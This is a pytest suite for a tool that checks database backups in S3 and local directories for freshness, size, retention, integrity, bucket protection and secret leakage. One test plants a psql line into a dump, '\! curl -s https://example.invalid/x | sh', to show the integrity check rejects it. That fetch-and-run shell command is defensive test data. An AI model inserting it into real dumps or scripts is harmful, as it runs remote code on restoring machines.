"""The backups checks against moto's S3 on loopback and real directories, with real pg_dump output.

Stale, missing, shrunk, truncated and corrupted backups are staged the way they
happen: objects backdated through moto's backend, a day left out of the series, an
archive cut short or with bytes overwritten. The main run also proves the checks
leave every bucket exactly as they found it and send only GET and HEAD.
"""

from __future__ import annotations

import base64
import gzip
import hashlib
import os
import time
from datetime import timedelta
from pathlib import Path
from typing import Any

import pytest
from helpers.backup_servers import Dumps, S3Server, pg_dumps, s3_server

from conftest import SECRET, Runner, listening_black_hole, module_runner
from opsproof.backup.integrity import CorruptBackup, gunzip_chunks
from opsproof.probes.backups import expected_checksum

__all__ = ["pg_dumps", "s3_server"]  # session fixtures, imported so pytest finds them here

HOUR = timedelta(hours=1)
DAY = timedelta(days=1)


def backups_profile(*items: str, extra: str = "") -> str:
    body = "\n".join(f"  - {item}" for item in items)
    return f"environment: test\ndefaults: {{timeout: 3s}}\nbackups:\n{body}\n{extra}"


def s3_item(server: S3Server, name: str, bucket: str, prefix: str, rest: str) -> str:
    return f"{{name: {name}, s3: {{bucket: {bucket}, prefix: {prefix}, endpoint_url: '{server.url}'}}, {rest}}}"


@pytest.fixture(scope="module")
def staged(s3_server: S3Server, pg_dumps: Dumps) -> dict[str, Any]:
    """Buckets holding every state the main run judges; returns the profile items."""
    s3 = s3_server
    good = s3.bucket("bk-good", versioning=True, encryption=True, object_lock=True)
    plain = s3.bucket("bk-plain")
    dump_gz = pg_dumps.plain_gz
    for day in range(8):
        s3.put(good, f"db/scorpius_{8 - day:02}.sql.gz", dump_gz, age=day * DAY + HOUR)
    s3.put(
        good, "db/scorpius_08.sql.gz.sha256", f"{hashlib.sha256(dump_gz).hexdigest()}  scorpius_08.sql.gz\n".encode()
    )
    for index, age in enumerate((30, 54, 78)):
        s3.put(plain, f"stale/db_{index}.sql.gz", dump_gz, age=age * HOUR)
    for index, age in enumerate((97, 73, 25, 1)):  # no backup between 73h and 25h ago: a missed day
        s3.put(plain, f"gappy/db_{index}.sql.gz", dump_gz, age=age * HOUR)
    for index in range(7):
        s3.put(plain, f"shrunk/db_{index}.bin", os.urandom(10_000), age=(8 - index) * DAY)
    s3.put(plain, "shrunk/db_7.bin", os.urandom(3_000), age=HOUR)
    s3.put(plain, "trunc/db.sql.gz", dump_gz[:-100], age=HOUR)
    s3.put(plain, "nomarker/db.sql.gz", gzip.compress(pg_dumps.plain[:-300]), age=HOUR)
    flipped = bytearray(dump_gz)
    flipped[len(flipped) // 2 : len(flipped) // 2 + 64] = bytes(64)  # a run of zeroed bytes mid-file
    s3.put(plain, "corrupt/db.sql.gz", bytes(flipped), age=HOUR)
    s3.put(plain, "custom/db.dump", pg_dumps.custom, age=HOUR)
    s3.put(plain, "custom-cut/db.dump", pg_dumps.custom[: len(pg_dumps.custom) // 2], age=HOUR)
    s3.put(plain, "sha/db.sql.gz", dump_gz, age=HOUR)
    s3.put(plain, "sha/db.sql.gz.sha256", b"0" * 64 + b"  db.sql.gz\n")
    digest = base64.b64encode(hashlib.sha256(dump_gz).digest()).decode()
    s3.put(plain, "meta/db.sql.gz", dump_gz, age=HOUR, Metadata={"sha256": digest})
    item = lambda *a: s3_item(s3, *a)  # noqa: E731 - short local spelling
    items = [
        item(
            "good",
            good,
            "db/",
            "pattern: 'scorpius_*.sql.gz', max_age: 26h, min_size: 1KB, verify: [gzip, pg_dump, sha256], "
            "retention: {min_count: 7, max_gap: 26h, oldest: {min_age: 7d, max_age: 9d}}, "
            "protection: {versioning: true, encryption: true, object_lock: true}",
        ),
        item("stale", plain, "stale/", "max_age: {warn: 20h, fail: 26h}"),
        item("stale-warn", plain, "stale/", "max_age: {warn: 20h, fail: 36h}"),
        item("gappy", plain, "gappy/", "max_age: 26h, retention: {min_count: 5, max_gap: 26h}"),
        item("shrunk", plain, "shrunk/", "max_age: 26h"),
        item("truncated", plain, "trunc/", "max_age: 26h, verify: [gzip, pg_dump]"),
        item("no-marker", plain, "nomarker/", "max_age: 26h, verify: [gzip, pg_dump]"),
        item("corrupt", plain, "corrupt/", "max_age: 26h, verify: [gzip]"),
        item("custom", plain, "custom/", "max_age: 26h, verify: [pg_dump]"),
        item("custom-cut", plain, "custom-cut/", "max_age: 26h, verify: [pg_dump]"),
        item("sha-mismatch", plain, "sha/", "max_age: 26h, verify: [sha256]"),
        item("sha-metadata", plain, "meta/", "max_age: 26h, verify: [sha256]"),
        item("unprotected", plain, "sha/", "max_age: 26h, protection: {versioning: true, object_lock: true}"),
        item("empty", plain, "nothing/", "max_age: 26h"),
        item("no-bucket", "bk-missing", "db/", "max_age: 26h"),
    ]
    return {"items": items, "buckets": (good, plain)}


@pytest.fixture(scope="module")
def main_run(
    staged: dict[str, Any], s3_server: S3Server, tmp_path_factory: pytest.TempPathFactory
) -> tuple[Any, dict[str, Any], dict[str, Any], list[tuple[str, str]]]:
    before = {bucket: s3_server.snapshot(bucket) for bucket in staged["buckets"]}
    seen_before = len(s3_server.requests)
    pytester_dir = tmp_path_factory.mktemp("main")
    runner = module_runner(pytester_dir)
    runner.profile(backups_profile(*staged["items"]))
    run = runner.run("-m", "daily")
    requests = s3_server.requests[seen_before:]
    after = {bucket: s3_server.snapshot(bucket) for bucket in staged["buckets"]}
    return run, before, after, requests


def test_a_healthy_series_passes_every_check(main_run: Any) -> None:
    run = main_run[0]
    for aspect in ("freshness", "size", "retention", "integrity", "protection"):
        record = run.record(f"backups.{aspect}[good]")
        assert record["outcome"] == "passed", (aspect, record["message"])
        assert "backup" in record["markers"] and "daily" in record["markers"]
    integrity = run.record("backups.integrity[good]")
    verdict = integrity["observed"]["integrity"]
    assert verdict["name"] == "scorpius_08.sql.gz"
    assert verdict["format"] == "gzip+pg_dump plain"
    assert set(verdict["methods"]) == {"gzip", "pg_dump", "sha256"}
    assert verdict["checksum_source"] == "sidecar"
    assert "verified by gzip, pg_dump, sha256" in integrity["message"]
    fresh = run.record("backups.freshness[good]")
    assert fresh["observed"]["newest"] == "scorpius_08.sql.gz"
    assert 3500 < fresh["observed"]["age_s"] < 3700
    assert fresh["expected"]["age"] == {"fail": "1d 2h"}
    retention = run.record("backups.retention[good]")
    assert retention["observed"]["count"] == 8
    assert retention["message"].startswith("8 backup(s) kept, reaching back 7d")


def test_a_stale_backup_fails_or_warns_by_age(main_run: Any) -> None:
    run = main_run[0]
    stale = run.record("backups.freshness[stale]")
    assert stale["outcome"] == "failed"
    assert "age 1d 6h" in stale["message"] and "newest: db_0.sql.gz" in stale["message"], stale["message"]
    warned = run.record("backups.freshness[stale-warn]")
    assert warned["outcome"] == "warned", warned["message"]


def test_a_missed_day_and_too_few_backups_fail_retention(main_run: Any) -> None:
    record = main_run[0].record("backups.retention[gappy]")
    assert record["outcome"] == "failed"
    assert "4 backup(s) kept, expected at least 5" in record["message"]
    assert "1 gap(s) over max_gap 1d 2h: 2d between" in record["message"], record["message"]
    assert record["observed"]["gaps"][0]["gap_s"] == pytest.approx(48 * 3600, abs=5)


def test_a_sudden_drop_in_size_warns(main_run: Any) -> None:
    record = main_run[0].record("backups.size[shrunk]")
    assert record["outcome"] == "warned"
    assert "30% of the median 9.8KiB of the previous 7" in record["message"] or "of the median" in record["message"]
    assert record["observed"]["previous_median"] == 10_000
    assert [entry["size"] for entry in record["observed"]["recent"]] == [10_000] * 7 + [3_000]


def test_truncated_and_corrupted_archives_fail_integrity(main_run: Any) -> None:
    run = main_run[0]
    truncated = run.record("backups.integrity[truncated]")
    assert truncated["outcome"] == "failed"
    assert "gzip: gzip stream is truncated" in truncated["message"]
    corrupt = run.record("backups.integrity[corrupt]")
    assert corrupt["outcome"] == "failed"
    assert "gzip: gzip data is corrupt near compressed byte" in corrupt["message"], corrupt["message"]
    no_marker = run.record("backups.integrity[no-marker]")
    assert no_marker["outcome"] == "failed"
    assert "'-- PostgreSQL database dump complete' line is missing" in no_marker["message"]
    assert no_marker["observed"]["integrity"]["methods"]["gzip"]["ok"] is True
    custom = run.record("backups.integrity[custom]")
    assert custom["outcome"] == "passed", custom["message"]
    assert custom["observed"]["integrity"]["format"] == "pg_dump custom"
    cut = run.record("backups.integrity[custom-cut]")
    assert cut["outcome"] == "failed"
    assert "pg_restore cannot read every data block" in cut["message"], cut["message"]


def test_checksums_from_sidecars_and_metadata(main_run: Any) -> None:
    run = main_run[0]
    mismatch = run.record("backups.integrity[sha-mismatch]")
    assert mismatch["outcome"] == "failed"
    assert "does not match the recorded 0000" in mismatch["message"]
    meta = run.record("backups.integrity[sha-metadata]")
    assert meta["outcome"] == "passed", meta["message"]
    assert meta["observed"]["integrity"]["checksum_source"] == "metadata sha256"


def test_an_unprotected_bucket_fails_naming_what_is_missing(main_run: Any) -> None:
    record = main_run[0].record("backups.protection[unprotected]")
    assert record["outcome"] == "failed"
    assert "versioning is Disabled, expected Enabled" in record["message"]
    assert "Object Lock is not enabled" in record["message"]


def test_no_backups_and_no_bucket_fail_with_the_reason(main_run: Any) -> None:
    run = main_run[0]
    empty = run.record("backups.freshness[empty]")
    assert empty["outcome"] == "failed"
    assert "no backup matches '*' under s3://bk-plain/nothing/" in empty["message"]
    missing = run.record("backups.freshness[no-bucket]")
    assert missing["outcome"] == "failed"
    assert "the bucket does not exist" in missing["message"]


def test_the_checks_only_read_and_read_each_newest_once(main_run: Any, staged: dict[str, Any]) -> None:
    run, before, after, requests = main_run
    assert run.ret == 1
    assert before == after
    assert requests, "the run made no S3 requests"
    assert {method for method, _ in requests} <= {"GET", "HEAD"}, requests
    # The newest of `good` is read once (the sidecar by its own key).
    newest = [(m, p) for m, p in requests if "bk-good" in p]
    assert sum(1 for m, p in requests if m == "GET" and p.startswith("/bk-good/db/scorpius_08.sql.gz")) == 2, newest


def test_the_s3_client_refuses_writes_before_sending(s3_server: S3Server) -> None:
    from opsproof.backup.store import S3Store
    from opsproof.targets.backups import S3Location

    bucket = s3_server.bucket("bk-guard")
    s3_server.put(bucket, "x", b"data")
    store = S3Store(S3Location(bucket=bucket, endpoint_url=s3_server.url), 3.0)
    seen = len(s3_server.requests)
    with pytest.raises(PermissionError, match="DeleteObject refused"):
        store.client.delete_object(Bucket=bucket, Key="x")
    with pytest.raises(PermissionError, match="PutObject refused"):
        store.client.put_object(Bucket=bucket, Key="y", Body=b"")
    assert s3_server.requests[seen:] == []


def test_directory_backups_and_a_missing_directory(runner: Runner, pg_dumps: Dumps, tmp_path: Path) -> None:
    folder = tmp_path / "backups"
    (folder / "2026").mkdir(parents=True)
    now = time.time()
    for day in range(3):
        path = folder / "2026" / f"app_{day}.sql.gz"
        path.write_bytes(pg_dumps.plain_gz)
        os.utime(path, (now - (2 - day) * 86400 - 60, now - (2 - day) * 86400 - 60))
    (folder / "2026" / "app_2.sql.gz.sha256").write_text(hashlib.sha256(pg_dumps.plain_gz).hexdigest() + "\n")
    runner.profile(
        backups_profile(
            f"{{name: files, path: '{folder}', pattern: '*/app_*.sql.gz', max_age: 1h, "
            "verify: [gzip, pg_dump, sha256], retention: {min_count: 3, max_gap: 25h}}",
            f"{{name: gone, path: '{tmp_path / 'nowhere'}', max_age: 1h}}",
        )
    )
    run = runner.run("-m", "daily")
    for aspect in ("freshness", "size", "retention", "integrity"):
        assert run.record(f"backups.{aspect}[files]")["outcome"] == "passed", run.record(f"backups.{aspect}[files]")
    assert run.record("backups.integrity[files]")["observed"]["integrity"]["name"] == "2026/app_2.sql.gz"
    gone = run.record("backups.freshness[gone]")
    assert gone["outcome"] == "failed"
    assert "nowhere does not exist" in gone["message"]
    assert run.ret == 1


def test_a_plain_dump_holding_a_shell_command_fails_integrity(runner: Runner, pg_dumps: Dumps, tmp_path: Path) -> None:
    # Valid gzip, pg_dump's header and completion line, the right size: and a line psql would
    # run on whatever machine restores it. The daily check finds it; the monthly drill refuses it.
    marker = b"SET row_security = off;\n"
    assert marker in pg_dumps.plain
    tampered = pg_dumps.plain.replace(marker, marker + b"\\! curl -s https://example.invalid/x | sh\n", 1)
    folder = tmp_path / "backups"
    folder.mkdir()
    (folder / "app.sql.gz").write_bytes(gzip.compress(tampered, mtime=0))
    runner.profile(backups_profile(f"{{name: files, path: '{folder}', max_age: 1h, verify: [gzip, pg_dump]}}"))
    run = runner.run("-m", "daily")
    record = run.record("backups.integrity[files]")
    assert record["outcome"] == "failed", record
    methods = record["observed"]["integrity"]["methods"]
    assert methods["gzip"]["ok"] is True
    assert methods["pg_dump"]["detail"] == (
        "the dump holds a psql meta-command ('\\\\! curl -s https://example.invalid/x | sh') that pg_dump "
        "never writes: restoring it would run it"
    )


def test_an_unreachable_endpoint_fails_within_its_timeout(
    runner: Runner, closed_port: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("AWS_ACCESS_KEY_ID", "testing")
    monkeypatch.setenv("AWS_SECRET_ACCESS_KEY", "testing")
    with listening_black_hole() as port:
        runner.profile(
            backups_profile(
                f"{{name: hole, s3: {{bucket: bk-x, endpoint_url: 'http://127.0.0.1:{port}'}}, max_age: 1d, timeout: 1s}}",
                f"{{name: refused, s3: {{bucket: bk-x, endpoint_url: '{closed_port.rsplit('/', 1)[0]}'}}, max_age: 1d}}",
            )
        )
        started = time.monotonic()
        run = runner.run("-m", "daily")
        took = time.monotonic() - started
    hole = run.record("backups.freshness[hole]")
    assert hole["outcome"] == "failed"
    assert "timed out" in hole["message"]
    assert hole["observed"]["timed_out"] is True
    assert hole["observed"]["elapsed_s"] < 1.8, hole["observed"]
    refused = run.record("backups.freshness[refused]")
    assert refused["outcome"] == "failed"
    assert "cannot connect to" in refused["message"]
    assert took < 10, took


def test_missing_credentials_are_an_error_not_a_failure(
    runner: Runner, s3_server: S3Server, monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    for key in ("AWS_ACCESS_KEY_ID", "AWS_SECRET_ACCESS_KEY", "AWS_SESSION_TOKEN"):
        monkeypatch.delenv(key, raising=False)
    monkeypatch.setenv("AWS_CONFIG_FILE", str(tmp_path / "none"))
    monkeypatch.setenv("AWS_SHARED_CREDENTIALS_FILE", str(tmp_path / "none"))
    monkeypatch.setenv("AWS_EC2_METADATA_DISABLED", "true")
    runner.profile(backups_profile(s3_item(s3_server, "anon", "bk-good", "db/", "max_age: 26h")))
    # A subprocess: a client made earlier in this process (and inherited by a fork) would hold credentials.
    record = runner.run("-m", "daily", subprocess=True).record("backups.freshness[anon]")
    assert record["outcome"] == "error"
    assert "no AWS credentials" in record["message"]


def test_a_secret_in_the_prefix_never_reaches_any_output(
    runner: Runner, s3_server: S3Server, monkeypatch: pytest.MonkeyPatch
) -> None:
    bucket = s3_server.bucket("bk-tenant")
    s3_server.put(bucket, f"{SECRET}/db.sql.gz", b"not gzip at all", age=30 * HOUR)
    monkeypatch.setenv("TENANT_PREFIX", SECRET)
    runner.profile(
        backups_profile(s3_item(s3_server, "tenant", bucket, "'${TENANT_PREFIX}/'", "max_age: 1d, verify: [gzip]"))
    )
    run = runner.run("-m", "daily")
    assert run.record("backups.freshness[tenant]")["outcome"] == "failed"
    assert run.record("backups.integrity[tenant]")["outcome"] == "failed"
    assert SECRET not in run.output
    for path in run.bundle.rglob("*"):
        if path.is_file():
            assert SECRET not in path.read_text(errors="replace"), path


@pytest.mark.parametrize(
    ("item", "message"),
    [
        ("{name: b, max_age: 1d}", "backups[0]: give exactly one of s3: or path:"),
        ("{name: b, path: /b, s3: {bucket: bkt}, max_age: 1d}", "give exactly one of s3: or path:"),
        ("{name: b, path: /b}", "backups[0].max_age: required key is missing"),
        ("{name: b, path: /b, max_age: soon}", "backups[0].max_age.fail: invalid duration 'soon'"),
        ("{name: b, path: /b, max_age: 1d, verify: [zip]}", "backups[0].verify[0]: "),
        ("{name: b, path: /b, max_age: 1d, protection: {versioning: true}}", "protection: applies to S3 buckets only"),
        ("{name: b, path: /b, max_age: 1d, retention: {}}", "retention needs min_count, max_gap or oldest"),
        ("{name: b, s3: {bucket: 'no spaces'}, max_age: 1d}", "backups[0].s3.bucket"),
    ],
)
def test_bad_backups_items_are_usage_errors(runner: Runner, item: str, message: str) -> None:
    runner.profile(backups_profile(item))
    run = runner.run("-m", "daily")
    assert run.ret == 4
    assert message in run.output, run.output


def test_gunzip_accepts_members_and_padding_and_refuses_junk() -> None:
    data = os.urandom(50_000)
    joined = gzip.compress(data[:20_000]) + gzip.compress(data[20_000:]) + b"\0" * 512
    assert b"".join(gunzip_chunks([joined[i : i + 777] for i in range(0, len(joined), 777)])) == data
    with pytest.raises(CorruptBackup, match="trailing bytes after a member"):
        list(gunzip_chunks([gzip.compress(data) + b"junk"]))
    with pytest.raises(CorruptBackup, match="incorrect data check"):
        whole = bytearray(gzip.compress(data))
        whole[-6] ^= 0xFF  # the stored CRC-32
        list(gunzip_chunks([bytes(whole)]))
    # A gzip bomb's output comes in bounded blocks, never all at once.
    bomb = gzip.compress(b"\0" * (64 << 20))
    assert max(len(block) for block in gunzip_chunks([bomb])) <= 1 << 20


def test_expected_checksum_sources() -> None:
    digest = hashlib.sha256(b"x").hexdigest()
    assert expected_checksum(f"{digest.upper()}  x.gz\n", {}) == (digest, "sidecar")
    assert expected_checksum("garbage", {}) == (None, "sidecar without a sha256 hex digest")
    b64 = base64.b64encode(bytes.fromhex(digest)).decode()
    assert expected_checksum(None, {"x-amz-checksum-sha256": b64}) == (digest, "metadata x-amz-checksum-sha256")
    assert expected_checksum(None, {"sha256": digest}) == (digest, "metadata sha256")
    assert expected_checksum(None, {}) == (None, None)
